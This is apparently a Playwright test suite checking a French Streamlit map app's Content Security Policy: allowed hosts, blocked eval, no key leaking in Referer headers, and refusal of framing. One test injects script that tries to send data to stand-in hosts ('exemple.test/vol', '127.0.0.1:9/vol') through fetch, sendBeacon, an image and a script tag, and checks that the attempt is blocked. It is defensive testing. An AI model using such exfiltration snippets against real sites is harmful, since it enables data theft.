"""No page asks anything of another host than the base map's, and all live under the server's own policy."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import drawn_map
from tests.conftest import Served, start_link

BASE_MAP = "data.geopf.fr"
PAGES = ["/?territoire=59512", "/carences?territoire=59512", "/commune?territoire=59512"]
PAGES += ["/scenario?territoire=59512", "/presentation?territoire=59512", "/comprendre", "/donnees"]
VIOLATIONS = """
  window.__refused = [];
  document.addEventListener("securitypolicyviolation",
    (event) => window.__refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


def drawn(page: Page, url: str) -> None:
    page.goto(url)
    expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
    expect(page.get_by_test_id("stSkeleton")).to_have_count(0)
    expect(page.locator("h1, .st-key-presentation iframe").first).to_be_visible()


def test_every_page_lives_under_the_policy_and_asks_nobody_else(page: Page, app_url: str):
    hosts: set[str] = set()
    errors: list[str] = []

    page.on("request", lambda request: hosts.add(urlsplit(request.url).hostname or ""))
    page.on("websocket", lambda socket: hosts.add(urlsplit(socket.url).hostname or ""))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.route(lambda url: not url.startswith(app_url), lambda route: route.abort())
    page.add_init_script(VIOLATIONS)
    refused = {}
    for path in PAGES:
        drawn(page, app_url + path)
        if "territoire" in path and "commune" not in path and "presentation" not in path:
            drawn_map(page)
        if path == PAGES[0]:
            page.get_by_text("Ouvrir le tableau").click()
            expect(page.get_by_test_id("stDataFrame")).to_be_visible()
        if "scenario" in path:
            page.get_by_role("button", name="Chercher les meilleurs lieux").click()
            expect(page.get_by_test_id("stVegaLiteChart").locator("canvas, svg").first).to_be_visible()
        if "presentation" in path:
            slides = page.frame_locator(".st-key-presentation iframe")
            expect(slides.locator("h1")).to_have_text("Roubaix (59512)")
        refused[path] = [
            one for frame in page.frames for one in frame.evaluate("() => window.__refused || []")
        ]
    assert {path: said for path, said in refused.items() if said} == {}
    assert errors == []
    assert hosts - {"", urlsplit(app_url).hostname} <= {BASE_MAP}


@pytest.mark.parametrize("there", ["https://exemple.test/vol", "http://127.0.0.1:9/vol"])
def test_under_the_policy_a_script_could_send_nothing_away(page: Page, app_url: str, there: str):
    sent: list[str] = []
    # Only what the browser lets through comes here.
    page.route(there, lambda route: (sent.append(route.request.url), route.abort()))
    page.add_init_script(VIOLATIONS)
    page.goto(f"{app_url}/comprendre")
    page.evaluate(
        """(there) => {
          fetch(there).catch(() => null);
          navigator.sendBeacon(there);
          new Image().src = there;
          const script = document.createElement("script");
          script.src = there;
          document.head.append(script);
        }""",
        there,
    )
    page.wait_for_function("() => window.__refused.length >= 4")
    assert sent == []


def test_under_the_policy_no_text_becomes_code(page: Page, app_url: str):
    page.add_init_script(VIOLATIONS)
    page.goto(f"{app_url}/comprendre")
    # In a turn of the page's own: what runs while the driver evaluates escapes the policy.
    page.evaluate(
        """() => setTimeout(() => {
          try { window.__said = new Function("return 'run'")(); }
          catch (error) { window.__said = error.name; }
        })"""
    )
    page.wait_for_function("() => window.__said")
    assert page.evaluate("() => window.__said") == "EvalError"


def test_the_key_of_the_start_link_is_told_to_no_request_of_its_page(page: Page, served: Served):
    told: list[str] = []
    page.on("request", lambda request: told.append(request.all_headers().get("referer", "")))
    drawn(page, start_link(served))
    assert len(told) > 20
    assert [one for one in told if "cle=" in one] == []


def test_an_address_of_no_page_is_said_in_french(page: Page, app_url: str):
    page.goto(f"{app_url}/rien?territoire=59512")
    said = page.get_by_role("dialog")
    expect(said).to_contain_text("Page introuvable")
    expect(said).to_contain_text("Cette adresse n’est celle d’aucune page : voici la carte.")


def test_no_page_of_another_site_frames_the_app(page: Page, app_url: str):
    elsewhere = "http://127.0.0.1:9/cadre.html"
    frame = f'<iframe src="{app_url}/donnees"></iframe>'
    page.route(elsewhere, lambda route: route.fulfill(body=frame, content_type="text/html"))
    with page.expect_event("console", predicate=lambda message: "frame-ancestors" in message.text):
        page.goto(elsewhere)
    assert page.frames[1].url.startswith("chrome-error:")
    assert page.frames[1].locator("[data-testid=stApp]").count() == 0
